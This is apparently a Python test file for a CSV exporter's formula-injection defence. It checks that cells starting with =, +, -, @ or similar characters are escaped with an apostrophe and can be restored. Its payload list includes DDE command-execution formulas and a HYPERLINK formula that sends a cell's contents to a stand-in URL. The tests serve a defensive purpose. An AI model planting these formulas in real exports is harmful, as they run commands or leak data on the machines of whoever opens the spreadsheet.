"""CSV: nothing in it runs, and everything in it comes back."""

import csv
import io
import re

import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from reviewdesk.formats.csv import csv_header, csv_rows, neutralise, restore

PAYLOADS = [
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "  \r\n=1+1",
    "\ufeff=1+1",
    "＝1+1",
    '=HYPERLINK("http://example.com?x="&A1,"see")',
]


def neutral(text: str) -> str:
    return str(neutralise(pa.array([text]))[0].as_py())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_spreadsheet_would_run_is_text(payload: str) -> None:
    found = neutral(payload)
    assert found[0] == "'"
    assert found.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("payload", PAYLOADS[:4])
@pytest.mark.parametrize("before", ["good;", "good\n", "good\r\n", "good\t ", 'good";'])
def test_also_where_a_spreadsheet_would_cut_the_cell(before: str, payload: str) -> None:
    assert neutral(before + payload) == f"{before}'{payload}"


@pytest.mark.parametrize(
    "text", ["", "1 = 1", "it's 5-stars, a+b", "great ;-)", "a list:\n- one\n- two", "mail me@home"]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text


@example([";=;=="])
@given(st.lists(st.text("=+-@; \t\n\r,'\"aé＝)", max_size=12), min_size=1))
def test_no_cell_begins_with_a_formula_however_it_is_cut(texts: list[str]) -> None:
    for text in neutralise(pa.array(texts, pa.string())).to_pylist():
        assert not re.match(r"\s*[=+\-@＝]", text)
        for cell in re.split(r"[;\t\n\r]", text):
            assert not re.match(r" *[=+\-@＝][^\s)]", cell)


@given(st.lists(st.text("=+-@; \t\n\r,'\"aé＝)", max_size=12), min_size=1))
def test_every_text_can_be_restored(texts: list[str]) -> None:
    values = pa.array(texts, pa.string())
    assert restore(neutralise(values)).to_pylist() == texts


@given(st.lists(st.text(st.characters(exclude_characters="\0\r", exclude_categories=["Cs"]))))
def test_everything_comes_back_with_its_apostrophe(texts: list[str]) -> None:
    rows = pa.RecordBatch.from_pydict({"text": pa.array(texts, pa.string())})
    raw, changed = csv_rows(rows)
    read = list(csv.reader(io.StringIO(raw.decode(), newline=""), strict=True))
    safe = neutralise(pa.array(texts, pa.string())).to_pylist()
    assert [row[0] for row in read] == safe
    assert changed == sum(a != b for a, b in zip(safe, texts, strict=True))


def test_null_is_nothing_and_numbers_stay_numbers() -> None:
    rows = pa.RecordBatch.from_pydict(
        {"a": ["x", None], "b": pa.array([-5, None]), "c": [True, None]}
    )
    assert csv_rows(rows) == (b'"x","-5","true"\n,,\n', 0)
    assert csv_header(["a", 'b"', "c"]) == b'"a","b""","c"\n'
